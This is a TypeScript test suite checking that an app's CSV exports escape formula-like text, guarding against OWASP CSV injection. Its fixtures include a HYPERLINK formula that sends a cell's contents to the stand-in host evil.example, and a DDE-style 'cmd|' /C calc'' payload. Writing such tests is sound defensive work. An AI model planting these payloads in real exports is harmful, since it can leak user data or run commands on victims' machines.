import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createInitiative } from "../server/services/initiatives/create-initiative";
import { joinInitiative } from "../server/services/initiatives/join-initiative";
import { purchaseSummaryCsv } from "../server/services/initiatives/purchase-summary";
import { setJointBuyCommitment } from "../server/services/initiatives/set-joint-buy-commitment";
import { transitionInitiative } from "../server/services/initiatives/transition-initiative";
import { createBenchmarkClub } from "../server/services/learning/create-benchmark-club";
import { createKpi } from "../server/services/learning/create-kpi";
import { exportBenchmarkCsv } from "../server/services/learning/export-benchmark-csv";
import { openBenchmarkPeriod } from "../server/services/learning/open-benchmark-period";
import { submitKpiValues } from "../server/services/learning/submit-kpi-values";
import { salesCsvTemplate } from "../server/services/ledger/import-sales-csv";
import { inviteToNetwork } from "../server/services/networks/invite-to-network";
import { respondToInvitation } from "../server/services/networks/respond-to-invitation";
import { createTestDatabase, type TestDatabase } from "./db";
import { actorOf, createFirmOwner, makeDeps, unique } from "./factories";
import { LEATHER_QUOTE, networkWithMembers } from "./network-fixtures";

// Every CSV export, fed names a spreadsheet would run as formulas (OWASP "CSV injection").
let database: TestDatabase;
let deps: ReturnType<typeof makeDeps>;
beforeAll(async () => {
  database = await createTestDatabase();
  deps = makeDeps(database.db);
});
afterAll(async () => {
  await database.drop();
});

const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
const FORMULA = /^[=+\-@\t\r]/;

/** Every cell of the file that is not a plain number, i.e. every text cell. */
function textCells(csv: string): string[] {
  return parse(csv, { relax_column_count: true })
    .flat()
    .filter((cell) => !/^-?\d+(\.\d+)?$/.test(cell));
}

/** An SME whose firm bears `firmName`, member of the network. */
async function memberNamed(networkId: string, brokerActor: Parameters<typeof inviteToNetwork>[1], firmName: string) {
  const sme = await createFirmOwner(deps, { firmName });
  await inviteToNetwork(deps, brokerActor, { networkId, firmId: sme.firmId });
  await respondToInvitation(deps, sme.actor, { networkId, decision: "accept", consent: true });
  return { ...sme, actor: await actorOf(deps.db, sme.userId) };
}

describe("CSV exports write formula-like text as text", () => {
  it("purchase-summary.csv: initiative title, firm, input and supplier names", async () => {
    const { broker, networkId } = await networkWithMembers(deps, 0);
    const a = await memberNamed(networkId, broker.actor, "@SUM(1)");
    const b = await memberNamed(networkId, broker.actor, `+${unique("cmd")}`);
    const { id } = await createInitiative(deps, broker.actor, {
      networkId,
      objective: "joint_buying",
      title: HYPERLINK,
      deadline: "2026-12-31",
      jointBuy: { ...LEATHER_QUOTE, inputName: "-2+3+cmd|' /C calc'!A0", supplierName: "\t=1+1", specification: "\r@x" },
    });
    await transitionInitiative(deps, broker.actor, { initiativeId: id, to: "open" });
    for (const s of [a, b]) await joinInitiative(deps, s.actor, { initiativeId: id });
    await setJointBuyCommitment(deps, a.actor, { initiativeId: id, quantity: 60 });
    await setJointBuyCommitment(deps, b.actor, { initiativeId: id, quantity: 70 });
    await transitionInitiative(deps, broker.actor, { initiativeId: id, to: "locked" });

    const { csv } = await purchaseSummaryCsv(deps, broker.actor, { initiativeId: id });
    const cells = textCells(csv);
    expect(cells).toEqual(expect.arrayContaining([`'${HYPERLINK}`, "'@SUM(1)", "'-2+3+cmd|' /C calc'!A0", "'=1+1", "'@x"]));
    expect(cells.filter((c) => FORMULA.test(c))).toEqual([]);
    // The schemas trim the leading tab and CR; what follows still begins like a formula. Amounts stay numbers.
    expect(csv).toContain("TOTAL,130,m²,9.00,1170.00");
  });

  it("club values.csv: firm and KPI names", async () => {
    const { broker, networkId } = await networkWithMembers(deps, 0);
    const a = await memberNamed(networkId, broker.actor, "@SUM(1)");
    const b = await memberNamed(networkId, broker.actor, HYPERLINK);
    const kpi = await createKpi(deps, broker.actor, {
      networkId,
      name: "=1+1 energy",
      unit: "-kWh",
      direction: "lower",
      minValue: "-50",
      maxValue: "50",
    });
    const { id: initiativeId } = await createBenchmarkClub(deps, broker.actor, {
      networkId,
      title: "+Club",
      description: "Energy",
      deadline: "2027-06-30",
      periodKind: "quarter",
      kpiIds: [kpi.id],
    });
    await transitionInitiative(deps, broker.actor, { initiativeId, to: "open" });
    for (const s of [a, b]) await joinInitiative(deps, s.actor, { initiativeId });
    const period = await openBenchmarkPeriod(deps, broker.actor, { initiativeId });
    await submitKpiValues(deps, a.actor, { initiativeId, periodId: period.id, values: { [kpi.id]: "-12.5" } });
    await submitKpiValues(deps, b.actor, { initiativeId, periodId: period.id, values: { [kpi.id]: "7" } });

    const { csv } = await exportBenchmarkCsv(deps, broker.actor, { initiativeId });
    const rows = parse(csv);
    expect(
      rows
        .map((r) => r[2])
        .slice(1)
        .sort(),
    ).toEqual([`'${HYPERLINK}`, "'@SUM(1)"]);
    expect(rows.slice(1).every((r) => r[4] === "'=1+1 energy" && r[5] === "'-kWh")).toBe(true);
    // A negative value is still a number.
    expect(rows.map((r) => r[6])).toContain("-12.5");
    expect(textCells(csv).filter((c) => FORMULA.test(c))).toEqual([]);
  });

  it("the ledger import template holds no formula-like text", () => {
    const cells = textCells(salesCsvTemplate());
    expect(cells).toContain("Stridewell Stores");
    expect(cells.filter((c) => FORMULA.test(c))).toEqual([]);
  });
});
